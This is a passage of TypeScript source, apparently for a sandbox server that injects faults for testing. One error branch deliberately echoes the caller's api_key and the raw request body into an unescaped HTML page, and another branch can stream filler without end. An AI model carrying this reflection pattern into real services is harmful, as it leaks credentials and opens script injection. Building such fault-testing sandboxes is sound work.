          `<html><head><title>${status} Bad Request</title></head><body><h1>Bad Request</h1>` +
            `<p>The request ${c.req.method} ${c.req.url} could not be processed.</p><p>api_key: ${key}</p><pre>${reqBody}</pre></body></html>`,
        );
      } else {
        c.sendJson(status, {
          durum: false,
          aciklama: `Geçersiz istek: ${c.req.method} ${c.req.url} (api_key: ${key}) ${reqBody}`,
        });
      }
      return;
    }
    default: {
      const never: never = f;
      throw new Error(`unknown s.fault ${JSON.stringify(never)}`);
    }
  }
}
/** Writes `first`, then `total` bytes of filler (forever when undefined), then `last`; honours backpressure and
 *  stops as soon as the client goes away. */
function streamBody(
  s: SandboxState,
  res: http.ServerResponse,
  first: string,
  total: number | undefined,
  last: string,
): void {
  const chunk = Buffer.alloc(64 * 1024, 0x78);
  let left = total === undefined ? Infinity : Math.max(0, total - first.length - last.length);
  res.write(first);
  const pump = (): void => {
    while (!res.destroyed && !s.closed) {
      if (left <= 0) {
        res.end(last);
        return;
      }
      const n = Math.min(left, chunk.length);
      left -= n;
      if (!res.write(n === chunk.length ? chunk : chunk.subarray(0, n))) {
        res.once('drain', pump);
        return;
      }
    }
  };
  pump();
}

function listen(server: http.Server, port: number, host: string): Promise<number> {
  return new Promise((resolve, reject) => {
    server.once('error', reject);
    server.listen(port, host, () => {
      server.off('error', reject);
      resolve((server.address() as AddressInfo).port);
    });
  });
}

/** Reads the whole request body (kept up to 1 MiB), as UTF-8. Resolves on end, close or error. */
function readBody(req: http.IncomingMessage): Promise<string> {
  return new Promise((resolve) => {
    const chunks: Buffer[] = [];
    let size = 0;
    let done = false;
    const finish = (): void => {
      if (done) return;
      done = true;
      resolve(Buffer.concat(chunks).toString('utf8'));
    };
    req.on('data', (c: Buffer) => {
      if (size < MAX_REQUEST_BODY) chunks.push(c);
      size += c.length;
    });
    req.once('end', finish);
    req.once('close', finish);
    req.once('error', finish);
  });
}

function safeDecode(s: string): string {
  try {
    return decodeURIComponent(s);
  } catch {
    return s;
  }
}

function looksLikeJson(body: string): boolean {
  try {
    JSON.parse(body);
    return true;
  } catch {
    return false;
  }
}

/** For the sandbox's own log: the api_key parameter's value is never printed. */
export function redactKey(target: string): string {
  return target.replace(/([?&]api_key=)[^&#\s]*/gi, '$1[REDACTED]');
}
